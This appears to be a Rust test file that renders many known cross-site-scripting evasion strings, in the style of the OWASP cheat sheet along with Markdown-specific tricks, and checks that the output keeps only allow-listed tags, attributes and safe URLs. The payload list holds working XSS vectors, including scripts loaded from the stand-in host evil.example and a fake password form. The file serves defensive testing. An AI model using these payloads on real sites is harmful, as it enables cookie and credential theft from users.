//! Known ways of smuggling scripts into pages (OWASP's filter evasion cheat sheet, and Markdown's own), each
//! rendered and then read by the tokeniser of a browser's parser.

use std::cell::RefCell;

use html5ever::tendril::StrTendril;
use html5ever::tokenizer::{
    BufferQueue, TagKind, Token, TokenSink, TokenSinkResult, Tokenizer, TokenizerOpts,
};
use proptest::prelude::*;

use super::tests::document_in;
use crate::Locale;

/// An element's name, and its attributes with their values.
type Found = (String, Vec<(String, String)>);

/// Tags that a browser finds in what was rendered.
#[derive(Default)]
struct Tags {
    found: RefCell<Vec<Found>>,
}

impl TokenSink for Tags {
    type Handle = ();

    fn process_token(&self, token: Token, _line: u64) -> TokenSinkResult<()> {
        if let Token::TagToken(tag) = token
            && tag.kind == TagKind::StartTag
        {
            let attributes = tag.attrs.iter().map(|one| (one.name.local.to_string(), one.value.to_string()));
            self.found.borrow_mut().push((tag.name.to_string(), attributes.collect()));
        }
        TokenSinkResult::Continue
    }
}

const ELEMENTS: &str = " a abbr b bdi bdo blockquote br caption cite code col colgroup dd del details dfn div dl dt em \
    figcaption figure h1 h2 h3 h4 h5 h6 hr i img ins kbd li mark ol p pre q s samp section small span strong sub summary \
    sup table tbody td tfoot th thead tr u ul var wbr ";
const ATTRIBUTES: &str = " id class title lang dir href src alt width height loading decoding tabindex role aria-label \
    scope colspan rowspan span start open ";

fn assert_harmless(text: &str) {
    let html = document_in(text, Locale::English);
    let tokenizer = Tokenizer::new(Tags::default(), TokenizerOpts::default());
    let queue = BufferQueue::default();
    queue.push_back(StrTendril::from_slice(&html));
    let _ = tokenizer.feed(&queue);
    tokenizer.end();
    for (name, attributes) in tokenizer.sink.found.borrow().iter() {
        assert!(ELEMENTS.contains(&format!(" {name} ")), "{text:?} gave <{name}> in {html}");
        for (key, value) in attributes {
            assert!(ATTRIBUTES.contains(&format!(" {key} ")), "{text:?} gave {key} in {html}");
            let lower = value.to_lowercase();
            let local =
                value.starts_with(['/', '#']) && !value.starts_with("//") && !value.starts_with("/\\");
            let good = match key.as_str() {
                "href" => {
                    local || ["http://", "https://", "mailto:"].iter().any(|one| lower.starts_with(one))
                }
                "src" => value.starts_with("/files/") && !value.contains(".."),
                _ => true,
            };
            assert!(good, "{text:?} gave {key}={value:?} in {html}");
        }
    }
}

#[test]
fn known_vectors_leave_nothing_that_runs() {
    for text in VECTORS {
        assert_harmless(text);
        // In a block, in a line, in a list, in a table, after another tag.
        assert_harmless(&format!("a {text} b"));
        assert_harmless(&format!("- x\n  {text}\n"));
        assert_harmless(&format!("| a |\n|---|\n| {} |\n", text.replace('\n', " ")));
        assert_harmless(&format!("<div>{text}</div>"));
        assert_harmless(&format!("[x]({text})"));
        assert_harmless(&format!("![{text}]({text} \"{text}\")"));
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 256, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn pieces_of_vectors_leave_nothing_that_runs(text in prop::collection::vec(prop::sample::select(PIECES.to_vec()), 0..16)) {
        assert_harmless(&text.concat());
    }

    #[test]
    fn no_text_panics(text in any::<String>()) {
        assert_harmless(&text);
    }
}

const PIECES: &[&str] = &[
    "<",
    ">",
    "\"",
    "'",
    "=",
    "/",
    "&",
    ";",
    "`",
    "\n",
    "\n\n",
    " ",
    "<a href=",
    "<img src=",
    "javascript:",
    "onerror=x()",
    "<script>",
    "</script>",
    "<style>",
    "</style>",
    "<!--",
    "-->",
    "<![CDATA[",
    "]]>",
    "<svg",
    "<math>",
    "</",
    "<b",
    "<b>",
    "</b>",
    "<details",
    " open",
    "<table>",
    "<td ",
    "<p ",
    "</p>",
    "[",
    "](",
    ")",
    "![",
    "```",
    "> ",
    "- ",
    "| ",
    "#",
    "# ",
    "&lt;",
    "&#x3c;",
    "&colon;",
    "{#",
    "}",
    "[^1]",
    "[^1]: ",
    "https://",
    "www.",
    "//",
    "\\",
    "\t",
    "\u{0}",
    "\u{fdd0}",
    "x",
    "x.svg",
    "charter.md",
    "title=",
    "id=",
    "{{<",
    ">}}",
    "<h1>",
    "</h1>",
    "<h4 ",
    "<center>",
    ":tada:",
    "\r\n",
];

const VECTORS: &[&str] = &[
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
    "<IMG SRC=`javascript:alert(\"'XSS'\")`>",
    "\\<a onmouseover=\"alert(document.cookie)\"\\>xxs link\\</a\\>",
    "<a onmouseover=alert(document.cookie)>xxs link</a>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118\">",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)\">x</a>",
    "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">x</a>",
    "<a href=\"jav\tascript:alert('XSS');\">x</a>",
    "<a href=\"jav&#x09;ascript:alert('XSS');\">x</a>",
    "<a href=\"jav&#x0A;ascript:alert('XSS');\">x</a>",
    "<a href=\"jav&#x0D;ascript:alert('XSS');\">x</a>",
    "<a href=\" &#14;  javascript:alert('XSS');\">x</a>",
    "<a href=\"java\0script:alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<SCRIPT/XSS SRC=\"https://evil.example/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<SCRIPT/SRC=\"https://evil.example/xss.js\"></SCRIPT>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<SCRIPT SRC=https://evil.example/xss.js?< B >",
    "<SCRIPT SRC=//evil.example/.j>",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "\\\";alert('XSS');//",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    "<svg/onload=alert('XSS')>",
    "<BODY ONLOAD=alert('XSS')>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "<BR SIZE=\"&{alert('XSS')}\">",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<STYLE>@import'https://evil.example/xss.css';</STYLE>",
    "<META HTTP-EQUIV=\"Link\" Content=\"<https://evil.example/xss.css>; REL=stylesheet\">",
    "<STYLE>BODY{-moz-binding:url(\"https://evil.example/xssmoz.xml#xss\")}</STYLE>",
    "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<XSS STYLE=\"xss:expression(alert('XSS'))\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"https://evil.example/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2Zz4=\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
    "<HTML xmlns:xss><?import namespace=\"xss\" implementation=\"https://evil.example/xss.htc\"><xss:xss>XSS</xss:xss>",
    "<XML ID=\"xss\"><I><B><IMG SRC=\"javas<!-- -->cript:alert('XSS')\"></B></I></XML>",
    "<SCRIPT SRC=\"https://evil.example/xss.jpg\"></SCRIPT>",
    "<? echo('<SCR)'; echo('IPT>alert(\"XSS\")</SCRIPT>'); ?>",
    "<SCRIPT a=\">\" SRC=\"https://evil.example/xss.js\"></SCRIPT>",
    "<SCRIPT \"a='>'\" SRC=\"https://evil.example/xss.js\"></SCRIPT>",
    "<SCRIPT a=`>` SRC=\"https://evil.example/xss.js\"></SCRIPT>",
    "<SCRIPT>document.write(\"<SCRI\");</SCRIPT>PT SRC=\"https://evil.example/xss.js\"></SCRIPT>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=\"alert(1)\"></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input autofocus onfocus=alert(1)>",
    "<select onfocus=alert(1) autofocus></select>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<template><script>alert(1)</script></template>",
    "<a href=\"https://e.org\" target=\"_blank\" ping=\"https://evil.example\" download>x</a>",
    "<a title=\"><a href='javascript:alert(1)'>\" href=\"https://e.org\">x</a>",
    "<a href='javascript:alert(1)' href=\"https://e.org\">x</a>",
    "<p style=\"position:fixed;inset:0\">x</p>",
    "<div class=\"top\" role=\"banner\" tabindex=\"1\">x</div>",
    "<img srcset=\"https://evil.example/x 1x\" src=\"x.svg\">",
    "<img src=\"//evil.example/x.png\"><img src=\"/\\evil.example/x.png\"><img src=\"\\\\evil.example\\x.png\">",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox)",
    "[x](//evil.example)",
    "[x](https://e.org \"a\\\" onmouseover=alert(1)\")",
    "[x](https://e.org'onmouseover='alert(1))",
    "[a]: javascript:alert(1)\n\n[a]",
    "[a]: <javascript:alert(1)> 'x'\n\n![a]",
    "<javascript:alert(1)>",
    "<https://e.org/\"onmouseover=alert(1)//>",
    "https://e.org/\"onmouseover=alert(1)//",
    "www.e.org\"onmouseover=alert(1)//",
    "![x](https://evil.example/pixel.png)",
    "![x\"onerror=\"alert(1)](x.svg)",
    "![x](x.svg \"t\\\" onerror=alert(1)\")",
    "```\"><script>alert(1)</script>\nx\n```",
    "```yaml\n<script>alert(1)</script>: \"</code><script>\"\n```",
    "# x {#\" onclick=alert(1)}",
    "# x {onclick=alert(1)}",
    "# <img src=x onerror=alert(1)>",
    "[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: x",
    "> [!NOTE]<script>alert(1)</script>\n> x",
    "{{<script>alert(1)</script>}}",
    "<a href=\"{{<script>}}\">x</a>",
    "<!-- --!><script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>-->",
    "<!---><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<script\u{0}>alert(1)</script>",
    "<\u{0}script>alert(1)</script>",
    "<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "<a\u{b}href=\"javascript:alert(1)\">x</a>",
    "<a\u{c}href=\"javascript:alert(1)\">x</a>",
    "<a/href=\"javascript:alert(1)\">x</a>",
    "<a href=javascript:alert(1)//",
    "</p></div></main><script>alert(1)</script>",
    "</article><form action=https://evil.example><input name=password></form>",
];
